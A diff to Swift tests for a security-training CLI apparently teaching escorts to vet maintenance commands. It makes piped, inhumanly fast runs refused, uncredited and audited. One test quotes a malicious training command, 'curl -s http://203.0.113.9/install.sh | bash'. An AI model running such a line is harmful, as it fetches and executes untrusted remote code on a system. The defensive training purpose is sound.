@@ -38,7 +38,8 @@ struct TrainCLITests {
         #expect(r.stdout.contains("web-maintenance: Web server maintenance — 22 decisions (6 malicious)"))
     }
 
-    @Test func passingTheWholeSetSetsTheTrainingDateAndIsAudited() async throws {
+    /// Issue 19: a piped 214-answer run was accepted in 0.13 s and credited bob, with the admin as actor.
+    @Test func aPipedRunOfTheWholeSetIsRefusedAndCreditsNobody() async throws {
         let cli = try await cli()
         let files = try FileManager.default.contentsOfDirectory(atPath: Self.scenarioDir).sorted().map { Self.scenarioDir + "/" + $0 }
         // The set runs in scenario-id order.
@@ -47,19 +48,17 @@ struct TrainCLITests {
             (try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: f))) as? [String: Any])["id"] as! String, f)
         })
         let input = try order.map { try Self.answers(byID[$0]!) }.joined()
-        let r = try await cli.run(["train", "--person", "bob", "--set", "escort-annual"], input: input)
-        #expect(r.status == 0, "\(r.stderr)")
-        #expect(r.stdout.components(separatedBy: "=== Result: PASSED").count - 1 == 5)
-        #expect(r.stdout.contains("Escort training for bob now valid until"))
+        let r = try await cli.run(["train", "--person", "bob", "--set", "escort-annual", "--actor", "ada"], input: input)
+        #expect(r.status == 2, "\(r.stderr)")
+        #expect(r.stderr.contains("TRN-008") && r.stderr.contains("faster than a person can read and decide"), "\(r.stderr)")
+        #expect(!r.stdout.contains("now valid until"))
         let list = try await cli.run(["person", "list", "--format", "json"])
         let people = try #require(try JSONSerialization.jsonObject(with: Data(list.stdout.utf8)) as? [[String: Any]])
-        let until = try #require(people.first?["escort_training_expires"] as? String)
-        #expect(until > "2027-")
-        let events = try await cli.records().filter { $0.fields["action"] == "training.result" }
-        #expect(events.count == 5)
-        #expect(events.last?.fields["escort_training_expires"] == .string(until))
-        #expect(events.first?.fields["escort_training_expires"] == .string("2020-01-02T00:00:00Z"))
-        await #expect(try cli.run(["train", "--results", "--person", "bob"]).stdout.components(separatedBy: "passed").count - 1 == 5)
+        #expect(people.first?["escort_training_expires"] as? String == "2020-01-02T00:00:00Z")
+        let events = try await cli.records().filter { ($0.fields["action"]?.stringValue ?? "").hasPrefix("training.") }
+        #expect(events.count == 1 && events[0].fields["action"] == "training.refused")
+        #expect(events[0].actor == "bob" && events[0].fields["supervisor"] == "ada")
+        await #expect(try cli.run(["train", "--results", "--person", "bob"]).stdout.contains("No training results."))
     }
 
     @Test func aMissIsExplainedAndFailsTheScenario() async throws {
@@ -67,12 +66,13 @@ struct TrainCLITests {
         let file = Self.scenarioDir + "/01-web-maintenance.json"
         // Decision 5 (index 4) is the curl | bash: approve it in both rounds.
         let r = try await cli.run(["train", "--person", "bob", "--scenario", file], input: try Self.answers(file, wrong: [4]))
-        #expect(r.status == 1, "\(r.stderr)")
+        // Scored and explained, but piped: refused as a run (TRN-008), so an error rather than "not passed".
+        #expect(r.status == 2, "\(r.stderr)")
         #expect(r.stdout.contains("=== Result: NOT PASSED"))
         #expect(r.stdout.contains("#5 curl -s http://203.0.113.9/install.sh | bash"))
         #expect(r.stdout.contains("You approved a malicious command in both rounds."))
         #expect(r.stdout.contains("The analyser said: critical risk"))
-        let events = try await cli.records().filter { $0.fields["action"] == "training.result" }
+        let events = try await cli.records().filter { $0.fields["action"] == "training.refused" }
         #expect(events.count == 1 && events[0].fields["passed"] == .bool(false))
     }
 
